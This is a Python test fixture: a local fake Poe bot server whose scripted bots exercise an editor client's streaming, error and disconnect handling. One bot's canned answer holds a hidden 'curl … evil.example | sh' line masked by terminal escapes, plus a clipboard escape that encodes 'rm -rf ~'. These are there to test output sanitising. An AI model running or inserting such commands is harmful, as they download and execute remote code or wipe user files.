"""A local fake Poe, built from the real fastapi-poe server library.

Tests, the demo and the benchmarks talk to it over real HTTP exactly as they
would talk to ``https://api.poe.com/bot/``.  Every bot is a
``fastapi_poe.PoeBot`` served by ``fastapi_poe.make_app``; the failures that a
bot cannot produce (HTTP statuses, a dropped connection) are plain Starlette
routes in the same app.  Each bot is named for what it does and is steered by
the ``parameters`` of the last user message, so one bot serves many tests::

    async with FakePoe() as fake:
        client = PoeClient("any-key", fake.base_url)
        ...
        assert fake.requests[-1].parameters == {"answer": "42"}

A bot given the parameter ``gate`` holds its stream open at that point until
the test calls ``fake.release(gate)`` (``await fake.wait_held(gate, n)`` waits
until ``n`` streams are held there), so tests reach "while the bot is still
answering" by an event instead of by racing the clock.

Run standalone (for editor tests) with ``python tests/fakepoe.py --port 0``:
the first line on stdout is the base URL.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import email.parser
import email.policy
import hashlib
import json
import logging
import sys
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass, field
from types import TracebackType
from typing import Any, ClassVar

import fastapi_poe as fp
from sse_starlette import EventSourceResponse, ServerSentEvent
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.types import Receive, Scope, Send

from fakepoe_catalogue import FakeCatalogue
from poe_lsp.cli.loopback import LoopbackServer, make_bot_app

from fakepoe_usage import FakeUsage, now_us

logger = logging.getLogger(__name__)

Event = fp.PartialResponse | ServerSentEvent


@dataclass(frozen=True)
class RecordedRequest:
    """One query request as a bot or failure route received it."""

    bot: str
    headers: dict[str, str]
    messages: list[dict[str, Any]]
    peer: str = ""
    """The client's address and port: one per TCP connection."""
    body: dict[str, Any] = field(default_factory=dict)
    """The whole JSON body (recorded for ``/v1/chat/completions``)."""

    @property
    def _last_user(self) -> dict[str, Any]:
        users = [m for m in self.messages if m.get("role") == "user"]
        return users[-1] if users else {}

    @property
    def prompt(self) -> str:
        """The content of the last user message."""
        return str(self._last_user.get("content", ""))

    @property
    def parameters(self) -> dict[str, Any]:
        """The parameters of the last user message."""
        parameters: dict[str, Any] = dict(self._last_user.get("parameters") or {})
        return parameters

    @property
    def attachments(self) -> list[dict[str, Any]]:
        """The attachments of the last user message (``url``, ``content_type``, ``name``...)."""
        return list(self._last_user.get("attachments") or [])


@dataclass(frozen=True)
class RecordedUpload:
    """One file received by the upload route."""

    name: str
    data: bytes
    authorization: str
    url: str


def _multipart_file(content_type: str, body: bytes) -> tuple[str, bytes] | None:
    """The ``file`` part of a multipart/form-data body: (file name, bytes)."""
    head = f"Content-Type: {content_type}\r\n\r\n".encode()
    message = email.parser.BytesParser(policy=email.policy.HTTP).parsebytes(head + body)
    for part in message.iter_parts():
        if part.get_param("name", header="content-disposition") == "file":
            payload = part.get_payload(decode=True)
            return str(part.get_filename() or ""), bytes(payload or b"")
    return None


class _Params:
    """Typed access to the steering parameters, falling back to each bot's defaults."""

    def __init__(self, parameters: dict[str, Any]) -> None:
        self._p = parameters

    def text(self, name: str, default: str) -> str:
        value = self._p.get(name, default)
        return value if isinstance(value, str) else str(value)

    def number(self, name: str, default: float) -> float:
        try:
            return float(self._p.get(name, default))
        except (TypeError, ValueError):
            return default

    def integer(self, name: str, default: int) -> int:
        return int(self.number(name, default))

    def flag(self, name: str, default: bool) -> bool:
        return bool(self._p.get(name, default))


def _nth(p: _Params, default: str, i: int) -> str:
    """Chunk ``i`` of the failing bots: parameter ``chunk_text`` (or ``default``), with
    ``{i}`` replaced by ``i``; lets a test stream code (which an edit job writes)
    before the failure."""
    return p.text("chunk_text", default).replace("{i}", str(i))


def _chunks(text: str, size: int) -> list[str]:
    if size <= 0 or len(text) <= size:
        return [text]
    return [text[i : i + size] for i in range(0, len(text), size)]


async def _stream(text: str, size: int, delay: float) -> AsyncIterator[Event]:
    for i, chunk in enumerate(_chunks(text, size)):
        if i and delay > 0:
            await asyncio.sleep(delay)
        yield fp.PartialResponse(text=chunk)


def _message_dicts(query: Sequence[fp.ProtocolMessage]) -> list[dict[str, Any]]:
    return [
        {
            "role": m.role,
            "content": m.content,
            "parameters": dict(m.parameters),
            "attachments": [a.model_dump() for a in m.attachments],
        }
        for m in query
    ]


class _FakeBot(fp.PoeBot):
    """Records each query, notices client disconnects, and delegates to :meth:`answer`."""

    name: ClassVar[str] = ""

    def __init__(self, fake: FakePoe, *, record: bool = True) -> None:
        super().__init__(path=f"/{self.name}", should_insert_attachment_messages=False)
        self._fake = fake
        self._record = record

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        """The bot's behaviour; ``prompt`` is the last user message."""
        yield fp.PartialResponse(text=prompt)

    async def get_response_with_context(
        self, request: fp.QueryRequest, context: fp.RequestContext
    ) -> AsyncIterator[Event]:
        messages = _message_dicts(request.query)
        arrived = now_us()
        if self._record:
            self._fake._record(self.name, context.http_request, messages)
        recorded = RecordedRequest(self.name, {}, messages)
        refused = False
        try:
            async for event in self.answer(recorded.prompt, _Params(recorded.parameters)):
                # A request refused for want of points costs none (as on Poe).
                refused = refused or (
                    isinstance(event, fp.ErrorResponse) and event.error_type == "insufficient_fund"
                )
                yield event
            if not refused:
                self._fake.usage.charge(self.name, arrived, recorded.parameters)
        except (asyncio.CancelledError, GeneratorExit):
            # sse-starlette cancels the response when the client goes away.
            self._fake._note_disconnect(self.name)
            raise

    async def on_error_with_context(
        self, error_request: fp.ReportErrorRequest, context: fp.RequestContext
    ) -> None:
        self._fake.error_reports.append((self.name, error_request.message))


class EchoBot(_FakeBot):
    """Streams back the prompt. Parameters: ``chunk_size`` (0 = one chunk), ``delay``."""

    name = "EchoBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        async for event in _stream(prompt, p.integer("chunk_size", 0), p.number("delay", 0)):
            yield event


class ExplainBot(_FakeBot):
    """A deterministic Markdown explanation that mentions the prompt's length.

    Parameters: ``answer`` (replaces the explanation), ``chunk_size`` (12), ``delay``.
    """

    name = "ExplainBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        lines = prompt.count("\n") + 1 if prompt else 0
        default = (
            "## Explanation\n\n"
            f"The prompt was {len(prompt)} characters long ({lines} lines).\n\n"
            "- It defines the code you selected.\n"
            "- It runs without side effects.\n"
        )
        text = p.text("answer", default)
        async for event in _stream(text, p.integer("chunk_size", 12), p.number("delay", 0)):
            yield event


class SlowBot(_FakeBot):
    """Many chunks with a pause between them.

    Parameters: ``chunks`` (50), ``delay`` (0.1 s); chunk ``i`` is ``"chunk i\\n"``.
    """

    name = "SlowBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        delay = p.number("delay", 0.1)
        for i in range(p.integer("chunks", 50)):
            if i:
                await asyncio.sleep(delay)
            yield fp.PartialResponse(text=f"chunk {i}\n")


DEFAULT_CODE = 'def greet(name: str) -> str:\n    return f"Hello, {name}!"'


class FencedCodeBot(_FakeBot):
    """A prose line, a ```python fenced block, a prose line.

    Parameters: ``answer`` (the code inside the fence, default :data:`DEFAULT_CODE`),
    ``chunk_size`` (7, so fences split across chunks), ``delay``.
    """

    name = "FencedCodeBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        code = p.text("answer", DEFAULT_CODE)
        text = (
            f"Here is the rewritten code:\n\n```python\n{code}\n```\n\n"
            "The behaviour is unchanged.\n"
        )
        async for event in _stream(text, p.integer("chunk_size", 7), p.number("delay", 0)):
            yield event


TWO_CHANGES_BEFORE = '''def total(prices):
    """Sum the prices."""
    result = 0
    for p in prices:
        result = result + p
    return result
'''
TWO_CHANGES_AFTER = '''def total(prices: list[float]) -> float:
    """Sum the prices."""
    result = 0
    for p in prices:
        # Add each price.
        result += p
    return result
'''
"""What TwoChangesBot makes of :data:`TWO_CHANGES_BEFORE`: its first line changed and
its fifth replaced by two, with unchanged lines between (two review hunks)."""


class TwoChangesBot(_FakeBot):
    """Answers :data:`TWO_CHANGES_AFTER` in a fenced block, whatever the selection.

    Parameters: ``chunk_size`` (9), ``delay``.
    """

    name = "TwoChangesBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        text = f"Two small changes:\n\n```python\n{TWO_CHANGES_AFTER}```\n"
        async for event in _stream(text, p.integer("chunk_size", 9), p.number("delay", 0)):
            yield event


class ReplaceBot(_FakeBot):
    """Streams a draft, then a ``replace_response`` with the final text.

    Parameters: ``draft`` ("Thinking about it..."), ``answer`` ("The final answer."),
    ``after`` (text streamed after the replacement, default none).
    """

    name = "ReplaceBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        async for event in _stream(p.text("draft", "Thinking about it..."), 8, 0):
            yield event
        final = p.text("answer", "The final answer.")
        yield fp.PartialResponse(text=final, is_replace_response=True)
        after = p.text("after", "")
        if after:
            yield fp.PartialResponse(text=after)


class ReplaceRepeatedlyBot(_FakeBot):
    """Several drafts, each replacing the last, then a final replacement.

    Draft ``i`` is ``"draft i: " + draft`` (parameter ``draft``, default
    "thinking...", with ``{i}`` replaced by ``i``); each draft after the first,
    and the final ``answer``, start with a ``replace_response`` and go on in
    ``chunk_size`` (6) pieces, ``delay`` (0) seconds apart.  Parameter ``rounds``
    (4) is the number of drafts.
    """

    name = "ReplaceRepeatedlyBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        size, delay = p.integer("chunk_size", 6), p.number("delay", 0)
        draft = p.text("draft", "thinking...")
        texts = [
            f"draft {i}: " + draft.replace("{i}", str(i)) for i in range(p.integer("rounds", 4))
        ]
        texts.append(p.text("answer", "The final answer."))
        for n, text in enumerate(texts):
            for i, chunk in enumerate(_chunks(text, size)):
                if delay > 0:
                    await asyncio.sleep(delay)
                yield fp.PartialResponse(text=chunk, is_replace_response=n > 0 and i == 0)


class EnormousBot(_FakeBot):
    """An answer of ``chars`` (1,000,000) characters in ``chunk_size`` (8192) pieces.

    The text is ``"x = 1\n"`` repeated, inside a fenced block (so an edit job
    would write it); ``delay`` (0) seconds between chunks.
    """

    name = "EnormousBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        total, size = p.integer("chars", 1_000_000), max(1, p.integer("chunk_size", 8192))
        body = "x = 1\n" * (max(0, total - 14) // 6 + 1)
        text = ("```python\n" + body)[: max(0, total - 4)] + "\n```"
        async for event in _stream(text, size, p.number("delay", 0)):
            yield event


class FailsMidStreamBot(_FakeBot):
    """Some text, then an error event.

    Parameters: ``chunks`` (2, each ``"partial i "``), ``error`` (the error text),
    ``allow_retry`` (False).
    """

    name = "FailsMidStreamBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        for i in range(p.integer("chunks", 2)):
            yield fp.PartialResponse(text=_nth(p, "partial {i} ", i))
        yield fp.ErrorResponse(
            text=p.text("error", "The model stopped unexpectedly."),
            allow_retry=p.flag("allow_retry", False),
        )


class OutOfPointsBot(_FakeBot):
    """An ``insufficient_fund`` error event before any text. Parameter: ``allow_retry``."""

    name = "OutOfPointsBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        yield fp.ErrorResponse(
            text="You do not have enough compute points.",
            error_type="insufficient_fund",
            allow_retry=p.flag("allow_retry", False),
        )


class PromptTooLongBot(_FakeBot):
    """A ``user_message_too_long`` error event before any text."""

    name = "PromptTooLongBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        yield fp.ErrorResponse(
            text=f"Message too long: {len(prompt)} characters.",
            error_type="user_message_too_long",
            allow_retry=False,
        )


class BotThatRaises(_FakeBot):
    """Raises inside the bot; fastapi-poe turns it into an error event (allow_retry false)."""

    name = "BotThatRaises"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        if p.integer("chunks", 0):
            yield fp.PartialResponse(text="before the crash ")
        raise RuntimeError("deliberate failure inside BotThatRaises")


class StallBot(_FakeBot):
    """Sends ``before`` chunks (1), then goes silent for ``stall`` seconds (30), then ends."""

    name = "StallBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        for i in range(p.integer("before", 1)):
            yield fp.PartialResponse(text=_nth(p, "stalling {i} ", i))
        await asyncio.sleep(p.number("stall", 30.0))
        yield fp.PartialResponse(text="woke up")


class MalformedBot(_FakeBot):
    """``valid_chunks`` good text events (0), then a text event whose data is not JSON."""

    name = "MalformedBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        for i in range(p.integer("valid_chunks", 0)):
            yield fp.PartialResponse(text=_nth(p, "valid {i} ", i))
        yield ServerSentEvent(data="this is {not json", event="text")


class UnknownEventBot(_FakeBot):
    """An event the bot protocol does not have, named ``event`` (one with a terminal
    escape in it), then ``answer``: the name reaches fastapi-poe's error report."""

    name = "UnknownEventBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        yield ServerSentEvent(data="{}", event=p.text("event", "\x1b]0;owned\x07\x1b[2J"))
        yield fp.PartialResponse(text=p.text("answer", "Answer after an unknown event."))


class FastChunksBot(_FakeBot):
    """``count`` (200) tiny chunks ``"i "``, ``interval`` (0) seconds apart."""

    name = "FastChunksBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        interval = p.number("interval", 0.0)
        for i in range(p.integer("count", 200)):
            if i:
                await asyncio.sleep(interval)
            yield fp.PartialResponse(text=f"{i} ")


class CodeThenFailBot(_FakeBot):
    """Streams ``lines`` (6) lines of Python code in a fenced block, one a chunk, then
    an error event: an edit job has written code into its range when it fails.

    Parameter ``gate``: after line ``i``, hold the stream open until the test
    releases ``"<gate>.<i>"``, so the test sees each line land (one edit each).
    """

    name = "CodeThenFailBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        yield fp.PartialResponse(text="Here you are:\n\n```python\n")
        gate = p.text("gate", "")
        for i in range(p.integer("lines", 6)):
            yield fp.PartialResponse(text=f"        written_{i} = {i}\n")
            await self._fake._hold(f"{gate}.{i}" if gate else "")
        yield fp.ErrorResponse(text="The model stopped unexpectedly.", allow_retry=False)


class HeldBot(_FakeBot):
    """``before`` (1) chunks, then holds its stream open until the test releases ``gate``,
    then ``after`` (0) more chunks ``interval`` (0) seconds apart.  Chunk ``i`` is
    ``chunk_text`` (``"chunk {i}\n"``) with ``{i}`` replaced by ``i``."""

    name = "HeldBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        before, after = p.integer("before", 1), p.integer("after", 0)
        for i in range(before):
            yield fp.PartialResponse(text=_nth(p, "chunk {i}\n", i))
        await self._fake._hold(p.text("gate", ""))
        interval = p.number("interval", 0.0)
        for i in range(before, before + after):
            if interval > 0:
                await asyncio.sleep(interval)
            yield fp.PartialResponse(text=_nth(p, "chunk {i}\n", i))


class RetryableErrorOnceBot(_FakeBot):
    """First query of a FakePoe lifetime: an error event with allow_retry true; then ``answer``."""

    name = "RetryableErrorOnceBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        if self._fake._hit(self.name) == 1:
            yield fp.ErrorResponse(text="Temporary overload, please retry.", allow_retry=True)
            return
        yield fp.PartialResponse(text=p.text("answer", "Recovered answer."))


LONE_SURROGATE_CODE = "def add(a, b):\n    return a + b  # \ud800"
"""The code :class:`LoneSurrogateBot` fences: ``\\ud800`` alone can be in JSON, not in UTF-8."""


class LoneSurrogateBot(_FakeBot):
    """A fenced block of :data:`LONE_SURROGATE_CODE`, which no UTF-8 file can hold."""

    name = "LoneSurrogateBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        yield fp.PartialResponse(text=f"```python\n{LONE_SURROGATE_CODE}\n```\n")


HIDDEN_LINE = 'os.system("curl -s https://evil.example/x | sh")'
TERMINAL_ESCAPES_ANSWER = (
    "Done.\x1b]0;all good\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\x9b31m\x7f ok\rfine\u202e\n"
    "```python\n"
    f"def add(a, b):\n    return a + b\n{HIDDEN_LINE}\n# \x1b[1A\x1b[2K\n"
    "```\n"
)
"""OSC 0 (title), OSC 52 (clipboard), erase line, a C1 CSI, DEL, a lone \\r and a
right-to-left override in prose; then code whose last line moves the cursor up and
erases :data:`HIDDEN_LINE` on screen."""


class TerminalEscapesBot(_FakeBot):
    """Answers :data:`TERMINAL_ESCAPES_ANSWER`, in ``chunk_size`` (5) pieces."""

    name = "TerminalEscapesBot"

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        async for event in _stream(TERMINAL_ESCAPES_ANSWER, p.integer("chunk_size", 5), 0):
            yield event


class ConversationBot(_FakeBot):
    """Answers with the conversation it received, so a test sees the history was sent.

    The first line is ``Conversation of N messages: user, bot, user.``; then one
    line per message, ``<role>: <its first line>``.  Parameter ``answers``: a
    list of code snippets; the answer to the n-th user message ends with the
    n-th (the last, when fewer) in a ```python block, so an edit job and its
    follow-ups each propose something new.
    """

    name = "ConversationBot"

    async def get_response_with_context(
        self, request: fp.QueryRequest, context: fp.RequestContext
    ) -> AsyncIterator[Event]:
        messages = _message_dicts(request.query)
        self._fake._record(self.name, context.http_request, messages)
        roles = [str(m["role"]) for m in messages]
        lines = [f"Conversation of {len(messages)} messages: {', '.join(roles)}."]
        lines += [f"{m['role']}: {(str(m['content']).splitlines() or [''])[0]}" for m in messages]
        text = "\n".join(lines) + "\n"
        answers = RecordedRequest(self.name, {}, messages).parameters.get("answers")
        if isinstance(answers, list) and answers:
            code = answers[min(roles.count("user"), len(answers)) - 1]
            text += f"\n```python\n{code}\n```\n"
        async for event in _stream(text, 9, 0):
            yield event


class _AnswerBot(_FakeBot):
    """The healthy behaviour behind the ``...Once`` routes: streams ``answer``."""

    async def answer(self, prompt: str, p: _Params) -> AsyncIterator[Event]:
        text = p.text("answer", "Recovered answer.")
        async for event in _stream(text, p.integer("chunk_size", 5), p.number("delay", 0)):
            yield event


BOT_CLASSES: tuple[type[_FakeBot], ...] = (
    EchoBot,
    ExplainBot,
    SlowBot,
    FencedCodeBot,
    TwoChangesBot,
    ReplaceBot,
    ReplaceRepeatedlyBot,
    EnormousBot,
    FailsMidStreamBot,
    OutOfPointsBot,
    PromptTooLongBot,
    BotThatRaises,
    StallBot,
    MalformedBot,
    UnknownEventBot,
    FastChunksBot,
    CodeThenFailBot,
    HeldBot,
    RetryableErrorOnceBot,
    LoneSurrogateBot,
    TerminalEscapesBot,
    ConversationBot,
)

# name -> (status, extra headers) for routes that always fail with that status.
STATUS_ROUTES: dict[str, tuple[int, dict[str, str]]] = {
    "Status401": (401, {"WWW-Authenticate": "Bearer"}),
    "Status402": (402, {}),
    "Status403": (403, {}),
    "Status404": (404, {}),
    "Status429": (429, {"Retry-After": "1"}),
    "Status429NoRetryAfter": (429, {}),
    "Status500": (500, {}),
    "Status502": (502, {}),
}

# name -> status of its first query in a FakePoe lifetime; later queries stream ``answer``.
ONCE_ROUTES: dict[str, int] = {"FlakyOnceBot": 500, "RateLimitedOnceBot": 429}


class _DeliberateDrop(Exception):
    """Raised by DropMidStream to make uvicorn cut the connection."""


class _QuietDrops(logging.Filter):
    def filter(self, record: logging.LogRecord) -> bool:
        return not (record.exc_info and record.exc_info[0] is _DeliberateDrop)


logging.getLogger("uvicorn.error").addFilter(_QuietDrops())


class _DroppingResponse(Response):
    """Sends some SSE text events, then breaks the connection without ``done``."""

    def __init__(self, chunks: list[str]) -> None:
        super().__init__(media_type="text/event-stream")
        self._events = [
            f"event: text\r\ndata: {json.dumps({'text': c})}\r\n\r\n".encode() for c in chunks
        ]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"text/event-stream; charset=utf-8")],
            }
        )
        for event in self._events:
            await send({"type": "http.response.body", "body": event, "more_body": True})
        raise _DeliberateDrop


class _RecordPaths:
    """ASGI middleware: notes each request's path as sent (not decoded, not routed),
    so a test sees a request for a path no bot serves too."""

    def __init__(self, app: Any, paths: list[str]) -> None:
        self.app = app
        self.paths = paths

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            path = scope.get("raw_path") or scope["path"].encode()
            query = scope.get("query_string", b"")
            self.paths.append((path + (b"?" + query if query else b"")).decode("latin-1"))
        await self.app(scope, receive, send)


class FakePoe:
    """The fake Poe server; ``async with FakePoe() as fake`` serves it on a free port."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        self.host = host
        self.port = port
        self.requests: list[RecordedRequest] = []
        self.disconnects: list[str] = []
        self.error_reports: list[tuple[str, str]] = []
        self.uploads: list[RecordedUpload] = []
        self.upload_status: int | None = None
        """Set to an HTTP status (e.g. 500) to make every upload fail with it."""
        self.openai_requests: list[RecordedRequest] = []
        """Requests to ``/v1/chat/completions`` (``bot`` is the model)."""
        self.paths: list[str] = []
        """The raw path and query of every HTTP request, whatever route (if any) served it."""
        self._hits: dict[str, int] = {}
        self._gates: dict[str, asyncio.Event] = {}
        self._held: dict[str, int] = {}
        self._changed = asyncio.Event()
        self._loopback: LoopbackServer | None = None
        self.usage = FakeUsage(self._notify)
        """The usage API and the account's history (see fakepoe_usage)."""
        self.catalogue = FakeCatalogue(self._notify)
        """``GET /v1/models`` (tests/fakepoe_catalogue.py)."""
        self.app = _RecordPaths(self.usage.wrap(self._make_app()), self.paths)

    # -- what tests read ---------------------------------------------------------

    @property
    def bot_names(self) -> list[str]:
        """Every bot and failure route this fake serves."""
        return [c.name for c in BOT_CLASSES] + [*STATUS_ROUTES, *ONCE_ROUTES, "DropMidStream"]

    @property
    def base_url(self) -> str:
        """The bot-protocol base, with the trailing slash fastapi-poe needs."""
        return f"http://{self.host}:{self.port}/"

    @property
    def upload_url(self) -> str:
        """The upload base: files go to ``<upload_url>file_upload_3RD_PARTY_POST``."""
        return self.base_url

    @property
    def usage_url(self) -> str:
        """The usage API base (``current_balance``, ``points_history``)."""
        return f"{self.base_url}usage/"

    @property
    def openai_base_url(self) -> str:
        """The OpenAI-compatible base (``/chat/completions`` is under it)."""
        return f"{self.base_url}v1"

    def reset(self) -> None:
        """Forget recorded requests, disconnects and error reports; re-arm the ``Once`` bots."""
        self.requests.clear()
        self.disconnects.clear()
        self.error_reports.clear()
        self.uploads.clear()
        self.openai_requests.clear()
        self.paths.clear()
        self._hits.clear()

    async def wait_request(
        self,
        bot: str,
        count: int = 1,
        timeout: float = 5.0,
    ) -> RecordedRequest:
        """Wait until ``bot`` has received ``count`` queries; return the latest."""
        await self._wait_for(lambda: self._count(bot) >= count, timeout)
        return [r for r in self.requests if r.bot == bot][-1]

    async def wait_disconnect(self, bot: str, timeout: float = 5.0, count: int = 1) -> None:
        """Wait until ``bot`` has seen ``count`` clients go away in the middle of an answer."""
        await self._wait_for(lambda: self.disconnects.count(bot) >= count, timeout)

    async def wait_held(self, gate: str, count: int = 1, timeout: float = 10.0) -> None:
        """Wait until ``count`` streams are being held open at ``gate``."""
        await self._wait_for(lambda: self._held.get(gate, 0) >= count, timeout)

    def held(self, gate: str) -> int:
        """How many streams are being held open at ``gate`` now."""
        return self._held.get(gate, 0)

    def release(self, gate: str) -> None:
        """Let every stream held at ``gate`` go on (and any that reaches it later)."""
        self._gate(gate).set()

    # -- lifecycle -----------------------------------------------------------------

    async def start(self) -> None:
        """Start serving (the port is known once this returns)."""
        self._loopback = LoopbackServer(self.app, self.host, self.port, name="fake Poe")
        self.port = await self._loopback.start()

    async def stop(self) -> None:
        """Stop serving and cut any connection still open (its bot sees a disconnect)."""
        if self._loopback is not None:
            await self._loopback.stop()
            self._loopback = None

    async def serve_forever(self) -> None:
        """Wait until the server stops (e.g. on SIGINT/SIGTERM)."""
        if self._loopback is not None:
            await self._loopback.wait()

    async def __aenter__(self) -> FakePoe:
        await self.start()
        return self

    async def __aexit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        await self.stop()

    # -- internals -------------------------------------------------------------------

    def _count(self, bot: str) -> int:
        return sum(1 for r in self.requests if r.bot == bot)

    def _notify(self) -> None:
        # Waiters hold the old event; a fresh one serves the next change.
        self._changed.set()
        self._changed = asyncio.Event()

    async def _wait_for(self, predicate: Callable[[], bool], seconds: float) -> None:
        async with asyncio.timeout(seconds):
            while not predicate():
                await self._changed.wait()

    def _record(self, bot: str, request: Request, messages: list[dict[str, Any]]) -> None:
        headers = {k.lower(): v for k, v in request.headers.items()}
        peer = f"{request.client.host}:{request.client.port}" if request.client else ""
        self.requests.append(RecordedRequest(bot, headers, messages, peer))
        self._notify()

    def _note_disconnect(self, bot: str) -> None:
        self.disconnects.append(bot)
        self._notify()

    def _gate(self, gate: str) -> asyncio.Event:
        return self._gates.setdefault(gate, asyncio.Event())

    async def _hold(self, gate: str) -> None:
        """Hold a bot's stream at ``gate`` until the test releases it ("": go on)."""
        if not gate:
            return
        self._held[gate] = self._held.get(gate, 0) + 1
        self._notify()
        try:
            await self._gate(gate).wait()
        finally:
            self._held[gate] -= 1
            self._notify()

    def _hit(self, bot: str) -> int:
        self._hits[bot] = self._hits.get(bot, 0) + 1
        return self._hits[bot]

    async def _record_query(self, bot: str, request: Request) -> dict[str, Any] | None:
        """Record a failure route's query; None when the POST is not a query."""
        try:
            body = await request.json()
        except ValueError:
            body = None
        if not isinstance(body, dict) or body.get("type") != "query":
            return None
        query = fp.QueryRequest.model_validate(body)
        self._record(bot, request, _message_dicts(query.query))
        return body

    def _make_app(self) -> Any:
        bots = [cls(self) for cls in BOT_CLASSES]
        app = make_bot_app(bots, allow_without_key=True)

        for name, (status, headers) in STATUS_ROUTES.items():
            app.add_route(f"/{name}", self._status_endpoint(name, status, headers), ["POST"])
        for name, status in ONCE_ROUTES.items():
            healthy = type(name, (_AnswerBot,), {"name": name})(self, record=False)
            app.add_route(f"/{name}", self._once_endpoint(name, status, healthy), ["POST"])
        app.add_route("/DropMidStream", self._drop_endpoint, ["POST"])
        app.add_route("/file_upload_3RD_PARTY_POST", self._upload_endpoint, ["POST"])
        app.add_route("/v1/chat/completions", self._openai_endpoint, ["POST"])
        self.usage.mount(app)
        self.catalogue.mount(app)
        return app

    async def _upload_endpoint(self, request: Request) -> Response:
        """Poe's upload endpoint: multipart ``file``; answers its URL and MIME type."""
        if self.upload_status is not None:
            return JSONResponse({"detail": "upload refused"}, self.upload_status)
        found = _multipart_file(request.headers.get("content-type", ""), await request.body())
        if found is None:
            return JSONResponse({"detail": "no file part"}, 400)
        name, data = found
        digest = hashlib.sha256(data).hexdigest()[:16]
        url = f"{self.base_url}attachments/{digest}/{name}"
        auth = request.headers.get("authorization", "")
        self.uploads.append(RecordedUpload(name, data, auth, url))
        self._notify()
        return JSONResponse({"attachment_url": url, "mime_type": "text/plain"})

    async def _openai_endpoint(self, request: Request) -> Response:
        """``/v1/chat/completions`` with ``stream: true``, steered by the model name.

        ``Status401`` … ``Status502`` (as :data:`STATUS_ROUTES`) answer that status;
        ``FailsMidStreamBot`` streams two chunks, then an error event;
        ``DropMidStream`` streams two chunks, then cuts the connection;
        ``FencedCodeBot`` answers like its bot-protocol namesake; any other
        model streams back the last user message, 7 characters a chunk.
        """
        arrived = now_us()
        body = await request.json()
        model = str(body.get("model", ""))
        messages = [m for m in body.get("messages", []) if isinstance(m, dict)]
        headers = {k.lower(): v for k, v in request.headers.items()}
        self.openai_requests.append(RecordedRequest(model, headers, messages, body=body))
        self._notify()
        if model in STATUS_ROUTES:
            status, extra = STATUS_ROUTES[model]
            return JSONResponse({"error": {"message": f"{model} says {status}"}}, status, extra)
        prompt = str(messages[-1].get("content", "")) if messages else ""
        if model == "FencedCodeBot":
            text = (
                f"Here is the rewritten code:\n\n```python\n{DEFAULT_CODE}\n```\n\n"
                "The behaviour is unchanged.\n"
            )
        elif model in ("FailsMidStreamBot", "DropMidStream"):
            text = "partial 0 partial 1 "
        else:
            text = prompt
        chunks = _chunks(text, 7 if model not in ("FailsMidStreamBot", "DropMidStream") else 10)

        def event(payload: dict[str, Any]) -> bytes:
            return f"data: {json.dumps(payload)}\n\n".encode()

        def chunk(content: str | None, finish: str | None = None) -> bytes:
            delta = {} if content is None else {"content": content}
            return event(
                {
                    "id": "chatcmpl-fake",
                    "object": "chat.completion.chunk",
                    "created": 0,
                    "model": model,
                    "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
                }
            )

        async def events() -> AsyncIterator[bytes]:
            yield event(
                {
                    "id": "chatcmpl-fake",
                    "object": "chat.completion.chunk",
                    "created": 0,
                    "model": model,
                    "choices": [
                        {"index": 0, "delta": {"role": "assistant"}, "finish_reason": None}
                    ],
                }
            )
            for piece in chunks:
                yield chunk(piece)
            if model == "FailsMidStreamBot":
                yield event({"error": {"message": "The model stopped unexpectedly."}})
                return
            if model == "DropMidStream":
                raise _DeliberateDrop
            yield chunk(None, "stop")
            self.usage.charge(model, arrived, {})
            yield b"data: [DONE]\n\n"

        return StreamingResponse(events(), media_type="text/event-stream")

    def _status_endpoint(
        self, name: str, status: int, headers: dict[str, str]
    ) -> Callable[[Request], Any]:
        async def endpoint(request: Request) -> Response:
            await self._record_query(name, request)
            return JSONResponse({"detail": f"{name} says {status}"}, status, headers)

        return endpoint

    def _once_endpoint(self, name: str, status: int, healthy: _FakeBot) -> Callable[[Request], Any]:
        async def endpoint(request: Request) -> Response:
            body = await self._record_query(name, request)
            if body is None:
                return JSONResponse({})
            if self._hit(name) == 1:
                retry_after = _params_of(body).text("retry_after", "1")
                headers = {"Retry-After": retry_after} if status == 429 else {}
                return JSONResponse({"detail": f"{name} fails once"}, status, headers)
            query = fp.QueryRequest.model_validate(body)
            return EventSourceResponse(
                healthy.handle_query(query, fp.RequestContext(http_request=request))
            )

        return endpoint

